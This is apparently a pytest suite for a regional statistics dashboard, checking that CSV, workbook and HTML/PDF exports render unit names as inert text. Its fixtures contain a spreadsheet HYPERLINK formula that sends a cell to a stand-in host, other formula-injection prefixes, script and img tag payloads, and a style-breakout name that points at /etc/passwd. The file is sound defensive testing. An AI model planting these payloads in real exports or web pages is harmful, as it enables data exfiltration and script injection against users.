"""Safe exports: unit names that look like formulas are written as text everywhere.

Every CSV download holds them neutralised the OWASP way (a leading ``'``) with numbers left
as numbers; every workbook the app writes holds them as plain strings, with no formula cell
anywhere; the papers' HTML shows markup in names literally.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from datetime import date
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from dashboard.components.assessment_view import assessment_export
from dashboard.components.exports import csv_safe, neutralise_csv_text, scorecard_export, to_csv, to_xlsx
from dashboard.i18n import t
from dashboard.papers.make import assessment_pdf, assessment_workbook
from dashboard.papers.style import PapersError
from queries.engine import registry
from queries.engine.indicators import compute
from queries.engine.period import make_period
from queries.ingest.targets import template_xlsx
from queries.services import shape
from queries.services.assessment import assess, load_rules
from tests.factory import County

Y = 2024
DAY = date(Y, 5, 10)
HYPERLINK = '=HYPERLINK("http://x"&B2,"点击")'
NAMES = {
    "T1": HYPERLINK,
    "T2": "+1",
    "V11": "-2+3",
    "V12": "@SUM(A1)",
    "V21": "\tTAB",
    "V22": "\rCR",
}
MARKUP = {"T3": "<script>alert(1)</script>", "V31": "李&张<img src=x>村"}
COUNTY_NAME = '县</style><img src="file:///etc/passwd">"\\'
TOWNS = ("T1", "T2", "T3")
VILLAGES = {"V11": "T1", "V12": "T1", "V21": "T2", "V22": "T2", "V31": "T3"}


def build(conn) -> None:
    """Three townships of villages named like formulas or markup. T1's villages have more
    deaths than births, so T1's natural growth rate is negative."""
    names = NAMES | MARKUP
    c = County(conn).units(
        ("C", COUNTY_NAME, "county", None),
        *((code, names[code], "township", "C") for code in TOWNS),
        *((code, names[code], "village", parent) for code, parent in VILLAGES.items()),
    )
    for code, parent in VILLAGES.items():
        for y in (Y - 1, Y):
            c.population(y, code, 1000, eligible=50)
        c.births(code, 3, "M", DAY)
        c.births(code, 2, "F", DAY)
        c.deaths(code, 9 if parent == "T1" else 1, DAY)
        c.check(code, f"{code}-1", DAY)
    c.target(Y, "C", "policy_compliance_rate", 90.0)
    c.target(Y, "C", "birth_rate", 4.0)
    c.target(Y, "C", "natural_growth_rate", 3.0)
    c.settle()


@pytest.fixture
def county(sqlite_engine):
    with sqlite_engine.begin() as conn:
        build(conn)
    return sqlite_engine


def scorecard_frames(conn) -> dict[str, pd.DataFrame]:
    """The scorecard download of the townships and of each township's villages."""
    table = compute(conn, "C", make_period(Y))
    codes = list(registry.CODES)
    return {parent: scorecard_export(shape.scorecard(table, parent), codes) for parent in ("C", *TOWNS)}


def assessment_frames(conn) -> dict[str, pd.DataFrame]:
    rules = load_rules()
    return {
        level: assessment_export(assess(conn, "C", Y, level, rules), rules.level_rules(level))
        for level in ("township", "village")
    }


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def rows_by_code(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    code = header.index(t("code"))
    return {r[code]: dict(zip(header, r, strict=True)) for r in rows[1:]}


def shown_in_csv(name: str) -> str:
    return "'" + name if name[0] in "=+-@\t\r" else name


# --------------------------------------------------------------------------- the CSV rule


def test_neutralise_prefixes_only_text_that_starts_like_a_formula():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"):
        assert neutralise_csv_text(text) == "'" + text
    for text in ("东村", "a=1", "1-2", "", "'=already"):
        assert neutralise_csv_text(text) == text
    for number in (-1.23, -7, 0.0):
        assert neutralise_csv_text(number) == number


def test_csv_safe_leaves_numeric_columns_as_numbers():
    frame = pd.DataFrame({"name": ["-x", "y"], "rate": [-1.23, 2.5], "mixed": [-4.0, "-4"]})
    out = csv_safe(frame)
    assert list(out["name"]) == ["'-x", "y"]
    assert list(out["rate"]) == [-1.23, 2.5]
    assert list(out["mixed"]) == [-4.0, "'-4"]  # the text "-4" is text; the number is not
    assert list(frame["name"]) == ["-x", "y"]  # the caller's frame is untouched


# --------------------------------------------------------------------------- CSV downloads


def test_scorecard_csv_neutralises_names_and_keeps_numbers(county):
    with county.connect() as conn:
        frames = scorecard_frames(conn)
    value_col = f"{registry.get('natural_growth_rate').name_zh} {t('value')}"
    seen = set()
    for frame in frames.values():
        rows = rows_by_code(csv_rows(to_csv(frame)))
        for code, row in rows.items():
            name = (NAMES | MARKUP)[code]
            assert row[t("unit")] == shown_in_csv(name)
            seen.add(code)
    assert seen == set(NAMES) | set(MARKUP)

    towns = rows_by_code(csv_rows(to_csv(frames["C"])))
    growth = towns["T1"][value_col]
    expected = frames["C"].set_index(t("code")).loc["T1", value_col]
    assert expected < 0
    assert not growth.startswith("'") and float(growth) == pytest.approx(expected)


def test_assessment_csv_neutralises_names_and_keeps_numbers(county):
    with county.connect() as conn:
        frames = assessment_frames(conn)
    towns = rows_by_code(csv_rows(to_csv(frames["township"])))
    villages = rows_by_code(csv_rows(to_csv(frames["village"])))
    assert {c: r[t("unit")] for c, r in towns.items()} == {
        c: shown_in_csv((NAMES | MARKUP)[c]) for c in TOWNS
    }
    assert {c: r[t("unit")] for c, r in villages.items()} == {
        c: shown_in_csv((NAMES | MARKUP)[c]) for c in VILLAGES
    }
    value_col = f"{registry.get('natural_growth_rate').name_zh} {t('value')}"
    growth = towns["T1"][value_col]
    assert float(growth) < 0 and not growth.startswith("'")
    total = towns["T1"][t("as_total")]
    assert float(total) == pytest.approx(frames["township"].set_index(t("code")).loc["T1", t("as_total")])


# --------------------------------------------------------------------------- workbooks


def cells(data: bytes):
    """Every non-empty cell of every sheet."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws, cell


def assert_names_are_plain_strings(data: bytes, names: set[str]) -> None:
    found = set()
    for ws, cell in cells(data):
        assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            # openpyxl leaves OOXML's escape of a carriage return (_x000D_) as it is stored;
            # Excel and LibreOffice decode it to the character itself
            text = unescape(cell.value)
            if text in names:
                assert cell.data_type == "s"
                found.add(text)
        assert not ws._hyperlinks, ws.title
    assert found == names


def test_table_xlsx_holds_names_as_strings_and_keeps_its_formatting(county):
    with county.connect() as conn:
        frames = scorecard_frames(conn) | assessment_frames(conn)
    for frame in frames.values():
        data = to_xlsx(frame, t("page_scorecard"))
        names = {(NAMES | MARKUP)[c] for c in frame[t("code")]}
        assert_names_are_plain_strings(data, names)

    frame = frames["C"]
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, "记分卡/2024"))).active
    assert ws.title == "记分卡_2024"
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == list(frame.columns)
    assert all(c.font.bold for c in ws[1])
    header = list(frame.columns)
    r = 2 + list(frame[t("code")]).index("T1")
    growth = ws.cell(
        row=r, column=1 + header.index(f"{registry.get('natural_growth_rate').name_zh} {t('value')}")
    )
    assert growth.data_type == "n" and growth.value < 0
    status = ws.cell(row=r, column=1 + header.index(f"{registry.get('birth_rate').name_zh} {t('verdict')}"))
    spec = registry.VERDICT["not_met"]  # 5 births per 1,000 against a target of 4
    assert status.value == spec.label("zh")
    assert status.fill.fgColor.rgb.endswith(spec.background.lstrip("#").upper())


def test_papers_workbook_holds_names_as_strings(county):
    with county.connect() as conn:
        data = assessment_workbook(conn, "C", Y, load_rules())
    assert_names_are_plain_strings(data, set(NAMES.values()) | set(MARKUP.values()))


def test_target_template_holds_names_as_strings(county):
    with county.connect() as conn:
        data = template_xlsx(conn, "C", Y)
    assert_names_are_plain_strings(data, set(NAMES.values()) | set(MARKUP.values()) | {COUNTY_NAME})


@pytest.mark.skipif(not (shutil.which("libreoffice") or shutil.which("soffice")), reason="no LibreOffice")
def test_libreoffice_shows_the_names_not_their_results(county, tmp_path):
    with county.connect() as conn:
        frame = scorecard_frames(conn)["C"]
    book = tmp_path / "card.xlsx"
    book.write_bytes(to_xlsx(frame, "card"))
    office = shutil.which("libreoffice") or shutil.which("soffice")
    subprocess.run(
        # 44,34,76: comma-separated, double quotes, UTF-8 (the default is the locale's charset)
        [
            office,
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},  # a profile of its own, not the user's
    )
    text = (tmp_path / "card.csv").read_text(encoding="utf-8", errors="replace")
    assert HYPERLINK.replace('"', '""') in text and "点击" in text


# --------------------------------------------------------------------------- the papers' HTML


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.style += data
        else:
            self.text.append(data)


def test_papers_html_shows_markup_in_names_literally(county, monkeypatch):
    pytest.importorskip("weasyprint")
    import weasyprint

    documents = []

    class Capture:
        def __init__(self, string):
            documents.append(string)

        def write_pdf(self):
            return b"%PDF-"

    monkeypatch.setattr(weasyprint, "HTML", Capture)
    with county.connect() as conn:
        try:
            assessment_pdf(conn, "C", Y, load_rules())
        except PapersError as exc:  # the CJK font is missing here
            pytest.skip(str(exc))
    (document,) = documents
    parsed = _Tags()
    parsed.feed(document)
    tags = [tag for tag, _ in parsed.tags]
    assert "script" not in tags
    assert all(attrs.get("src", "").startswith("data:") for tag, attrs in parsed.tags if tag == "img")
    assert tags.count("style") == 1 and "</style>" not in parsed.style.lower() and "<" not in parsed.style
    text = "".join(parsed.text)
    for name in MARKUP.values():
        assert name in text
    assert COUNTY_NAME in text
    # the footer's title (string-set from the root's data-title) reads the name literally too
    (root,) = [attrs for tag, attrs in parsed.tags if tag == "html"]
    assert root["data-title"] == f"{COUNTY_NAME} {Y}年度 年终考核"
    assert "content: string(title)" in parsed.style
